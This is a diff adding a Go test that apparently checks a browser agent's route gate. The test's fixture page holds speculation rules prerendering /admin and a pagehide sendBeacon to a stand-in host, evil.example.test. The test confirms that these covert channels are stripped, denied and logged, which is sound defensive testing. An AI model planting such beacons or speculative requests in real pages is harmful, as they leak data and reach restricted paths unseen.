@@ -1,0 +1,86 @@
+package browser
+
+import (
+	"fmt"
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+
+	playwright "github.com/mxschmitt/playwright-go"
+
+	"github.com/trapline/trapline/agentkit/evidence"
+	"github.com/trapline/trapline/agentkit/policy"
+)
+
+// The in-page guard of the route gate: speculation rules are taken out of the document and reported,
+// a beacon while the page is shown goes out through ctx.Route, a beacon from pagehide is refused and reported, and each
+// refusal is a route-gate violation with the policy's rule (or unseen_channel for an allowed URL).
+func TestUnseenGuard(t *testing.T) {
+	hits := make(chan string, 16)
+	mux := http.NewServeMux()
+	mux.HandleFunc("/pratiche/a", func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		fmt.Fprint(w, `<!doctype html><title>a</title><p>a</p>
+<script type="speculationrules">{"prerender": [{"source": "list", "urls": ["/admin"]}], "prefetch": [{"source": "list", "urls": ["/pratiche/c"]}]}</script>
+<script>window.addEventListener("pagehide", () => { sessionStorage.setItem("sent", String(navigator.sendBeacon("http://evil.example.test/bp/leave", "x"))); });</script>`)
+	})
+	mux.HandleFunc("/pratiche/", func(w http.ResponseWriter, r *http.Request) {
+		hits <- r.Method + " " + r.URL.Path
+		fmt.Fprint(w, "<!doctype html><title>b</title><p>b</p>")
+	})
+	mux.HandleFunc("/admin", func(w http.ResponseWriter, r *http.Request) { hits <- r.Method + " " + r.URL.Path })
+	sess, rec, _, _ := portalSession(t, mux)
+	page := sess.Page()
+	if _, err := page.Goto("http://portale.interno.test/pratiche/a"); err != nil {
+		t.Fatal(err)
+	}
+	waitFor := func(what string, ok func([]evidence.Violation) bool) []evidence.Violation {
+		t.Helper()
+		deadline := time.Now().Add(20 * time.Second)
+		for {
+			vs := rec.Violations()
+			if ok(vs) {
+				return vs
+			}
+			if time.Now().After(deadline) {
+				t.Fatalf("%s: violations %+v", what, vs)
+			}
+			time.Sleep(50 * time.Millisecond) // a wait on the recorder, bounded
+		}
+	}
+	has := func(rule, url string) func([]evidence.Violation) bool {
+		return func(vs []evidence.Violation) bool {
+			for _, v := range vs {
+				if v.Source == evidence.SourceRoute && v.Rule == rule && v.URL == url {
+					return true
+				}
+			}
+			return false
+		}
+	}
+	waitFor("speculation rules of /admin", has(string(policy.RuleDenyPath), "http://portale.interno.test/admin"))
+	waitFor("speculation rules of an allowed path", has(string(policy.RuleUnseenChannel), "http://portale.interno.test/pratiche/c"))
+	n, err := page.Locator(`script[type="speculationrules"]`).Count()
+	if err != nil || n != 0 {
+		t.Fatalf("speculation rules left in the document: %d, %v", n, err)
+	}
+	sent, err := page.Evaluate(`() => navigator.sendBeacon("/pratiche/shown", "x")`)
+	if err != nil || sent != true {
+		t.Fatalf("a beacon while the page is shown: %v, %v (want sent, through the route gate)", sent, err)
+	}
+	// It goes out as usual, so the route gate sees it (and denies it: POST is not an allowed write).
+	waitFor("the shown page's beacon at the route gate", has(string(policy.RuleWriteNotAllowed), "http://portale.interno.test/pratiche/shown"))
+	if _, err := page.Goto("http://portale.interno.test/pratiche/b", playwright.PageGotoOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	sentOnLeave, _ := page.Evaluate(`() => sessionStorage.getItem("sent")`)
+	t.Logf("pagehide sendBeacon returned %v", sentOnLeave)
+	waitFor("the pagehide beacon", has(string(policy.RuleHostNotAllowed), "http://evil.example.test/bp/leave"))
+	close(hits)
+	for h := range hits {
+		if strings.Contains(h, "admin") || h == "GET /pratiche/c" {
+			t.Errorf("a speculative request reached the site: %s", h)
+		}
+	}
+}
